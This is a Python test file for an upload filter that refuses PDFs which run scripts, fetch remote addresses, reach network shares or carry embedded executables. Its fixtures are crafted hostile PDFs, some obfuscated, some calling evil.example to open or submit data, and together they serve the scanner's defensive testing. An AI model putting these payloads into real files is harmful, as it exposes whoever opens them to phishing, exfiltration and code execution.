"""PDFs that run something, or that nobody can look into, are refused; the scripts that format fields are known."""

import io
import zlib

import pytest

from app.core.files import RefusedFileError, sniff
from tests.core.files.office_files import pdf


def reason_for(name: str, data: bytes) -> str:
    with pytest.raises(RefusedFileError) as caught:
        sniff(io.BytesIO(data), name)
    return caught.value.message


SCRIPTED = {
    "open.pdf": pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "names.pdf": pdf(catalog="/Names<</JavaScript<</Names[(a) 100 0 R]>>>>", objects=("<</S/JavaScript/JS(this.submitForm\\(\\))>>",)),
    "page.pdf": pdf(page="/AA<</O<</S/JavaScript/JS<6170702E616C657274283129>>>>>"),
    "escaped.pdf": pdf(catalog="/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
    "after-formatting.pdf": pdf(catalog="/OpenAction<</S/JavaScript/JS(AFNumber_Format\\(2\\); app.launchURL\\('x'\\))>>"),
    "hidden-in-text.pdf": pdf(objects=("(stream\n)", "<</S/JavaScript/JS(x\\(\\))>>", "(endstream)"), catalog="/OpenAction 101 0 R"),
}  # fmt: skip


@pytest.mark.parametrize("name", SCRIPTED)
def test_pdf_scripts_are_refused(app, name: str) -> None:
    assert "contains scripts" in reason_for(name, SCRIPTED[name])


def test_scripts_packed_into_object_streams_are_seen(app) -> None:
    inside = b"100 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
    packed_objects = zlib.compress(inside)
    hidden = pdf() + b"9 0 obj\n<</Type/ObjStm/N 1/First 6/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        len(packed_objects), packed_objects,
    )  # fmt: skip
    assert "contains scripts" in reason_for("a.pdf", hidden)


def test_a_form_may_format_its_fields(app) -> None:
    formatting = r"/OpenAction<</S/JavaScript/JS(AFNumber_Format\(2, 0, 0, 0, \"\", true\);)>>".replace('\\"', '"')
    assert sniff(io.BytesIO(pdf(catalog=formatting)), "a.pdf").media_type == "application/pdf"


def test_a_pdf_with_a_password_is_refused(app) -> None:
    locked = "<</Filter/Standard/V 1/R 2/P -4/O(" + "a" * 32 + ")/U(" + "b" * 32 + ")>>"
    data = pdf(objects=(locked,)).replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 100 0 R/ID[(a)(a)]")
    assert "password" in reason_for("a.pdf", data)


XFA = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/">{}</template></xdp:xdp>'


FAR = f"({'x' * 1_500})"
"""Something to stand before what the first look at a file would see already."""


def form(content: str, listed: str = "[(template)101 0 R]", said: str = "") -> bytes:
    """Return a PDF with a form of Adobe's form designer."""
    stream = f"<</Length {len(content)}{said}>>\nstream\n{content}\nendstream"
    return pdf(catalog=f"/AcroForm<</Fields[]/XFA{listed}>>", objects=(FAR, stream))


def script(text: str) -> str:
    return XFA.format(
        f'<field><event activity="change"><script contentType="application/x-javascript">{text}</script></event></field>'
    )


LOOKING = 'if (xfa.event.newText.toString().indexOf(".") != -1 &amp;&amp; xfa.event.newText.length &gt; 9) { xfa.event.change = ""; }'
SENDING = XFA.format('<field><event activity="{}"><submit target="https://example.org/"/></event></field>')
ACTING_FORMS = {
    "address": form(script('xfa.host.gotoURL("https://evil.example/")')),
    "alert": form(script("app.alert(1)")),
    "computed": form(script('xfa["host"].gotoURL("x")')),
    "escaped": form(script("\\u0061pp.alert(1)")),
    "behind a comment": form(script("if (true) /* ' */ evil(); /* ' */ null")),
    "formcalc": form(XFA.format('<script contentType="application/x-formcalc">Get("https://evil.example/")</script>')),
    "constructor": form(script('"".constructor.constructor("x")()')),
    "sent by itself": form(SENDING.format("initialize")),
    "web service": form(XFA.format('<event activity="click"><execute connection="x"/></event>')),
    "style sheet": form('<?xml-stylesheet href="\\\\evil\\x.xslt"?>' + XFA.format("")),
    "picture": form(XFA.format('<image href="https://evil.example/x.png"/>')),
    "entities": form("<!DOCTYPE a [<!ENTITY b 'c'>]>" + XFA.format("&b;")),
    "no xml": form("<template"),
    "missing": form(XFA.format(""), "[(template)150 0 R]"),
    "empty list": form(XFA.format(""), "[]"),
    "hidden in a name": form(script("app.alert(1)"), "[(a])101 0 R]"),
    "not listed": form(script("app.alert(1)"), " 101 0 R"),
}  # fmt: skip
HARMLESS_FORMS = {
    "checking": form(script(LOOKING)),
    "sent by a click": form(SENDING.format("click")),
    "alone": form(script(LOOKING), " 101 0 R"),
    "settings": form(XFA.format('<script xmlns="http://www.xfa.org/schema/xci/2.8/"><runScripts>server</runScripts></script>')),
}  # fmt: skip


@pytest.mark.parametrize("name", ACTING_FORMS)
def test_a_form_in_xml_that_does_more_than_check_what_is_typed_is_refused(app, name: str) -> None:
    assert "contains scripts" in reason_for("a.pdf", ACTING_FORMS[name])


@pytest.mark.parametrize("name", HARMLESS_FORMS)
def test_a_form_in_xml_may_check_what_is_typed(app, name: str) -> None:
    assert sniff(io.BytesIO(HARMLESS_FORMS[name]), "a.pdf").ending == "pdf"


REACHING = {
    "opens an address": pdf(catalog="/OpenAction<</S/URI/URI(https://evil.example/)>>"),
    "opens it in the end": pdf(catalog="/OpenAction<</S/GoTo/D[10 0 R/Fit]/Next 100 0 R>>", objects=("<</S/Named/N/Print/Next[101 0 R]>>", "<</S/URI/URI(https://evil.example/)>>")),
    "sends when a page opens": pdf(page="/AA<</O 100 0 R>>", objects=("<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>",)),
    "asks a share": pdf(page="/AA<</O<</S/GoToE/F(\\\\\\\\evil\\\\x)/D[0/Fit]>>>>"),
    "a share to click": pdf(page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(//evil/x.pdf)/D[0/Fit]>>>>]"),
    "a share in digits": pdf(page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F 100 0 R/D[0/Fit]>>>>]", objects=("<FEFF005C005C006500760069006C005C0078>",)),
    "goes round": pdf(catalog="/OpenAction 100 0 R", objects=("<</S/GoTo/Next[100 0 R 101 0 R]>>", "<</S/ImportData/F(x.fdf)>>")),
}  # fmt: skip
CARRYING = {
    "by name": pdf(catalog="/Names<</EmbeddedFiles<</Names[(a.exe)100 0 R]>>>>", objects=("<</Type/Filespec/F(a.exe)/EF<</F 101 0 R>>>>", "<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream")),
    "by a note": pdf(page="/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)/EF<</F 100 0 R>>>>>>]", objects=("<</Length 2>>\nstream\nMZ\nendstream",)),
    "a film": pdf(page="/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<<>>>>>>]"),
}  # fmt: skip
CLICKED = {
    "a link": pdf(page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/)>>>>]"),
    "a button": pdf(page="/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/T(a)/Rect[0 0 9 9]/AA<</U<</S/SubmitForm/F<</FS/URL/F(https://example.org/)>>>>>>>>]"),
    "a page to begin with": pdf(catalog="/OpenAction[10 0 R/Fit]"),
    "a file beside it": pdf(page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>]"),
}  # fmt: skip


@pytest.mark.parametrize("name", REACHING)
def test_a_pdf_that_leaves_itself_without_a_click_is_refused(app, name: str) -> None:
    assert "opens or fetches something elsewhere" in reason_for("a.pdf", REACHING[name])


@pytest.mark.parametrize("name", CARRYING)
def test_a_pdf_that_carries_other_files_is_refused(app, name: str) -> None:
    assert "carries other files" in reason_for("a.pdf", CARRYING[name])


@pytest.mark.parametrize("name", CLICKED)
def test_what_a_reader_clicks_in_a_pdf_is_his_business(app, name: str) -> None:
    assert sniff(io.BytesIO(CLICKED[name]), "a.pdf").ending == "pdf"


def test_what_looks_like_a_script_inside_a_picture_is_none(app) -> None:
    picture = "<</Length 27>>\nstream\nx/JS(evil\\(\\)) /EF<< /XFA(x)\nendstream"
    assert sniff(io.BytesIO(pdf(catalog="/A 100 0 R", objects=(picture,))), "a.pdf").ending == "pdf"


def test_a_script_that_is_stored_in_a_roundabout_way_is_refused(app) -> None:
    formatting = "AFNumber_Format(2);"
    squeezed = zlib.compress(formatting.encode()).decode("latin-1")
    stored = f"<</Filter/FlateDecode/Length {len(squeezed)}{{}}>>\nstream\n{squeezed}\nendstream"
    action = "/OpenAction<</S/JavaScript/JS 100 0 R>>"
    assert sniff(io.BytesIO(pdf(catalog=action, objects=(stored.format(""),))), "a.pdf").ending == "pdf"
    for said in ("/DecodeParms<</Predictor 12>>", "/F(elsewhere.js)"):
        assert "contains scripts" in reason_for("a.pdf", pdf(catalog=action, objects=(stored.format(said),)))


def test_a_broken_pdf_that_would_do_something_is_refused(app) -> None:
    broken = b"%PDF-1.7\n1 0 obj <</AcroForm<</XFA 2 0 R>>>>"
    assert "could not be checked" in reason_for("a.pdf", broken)
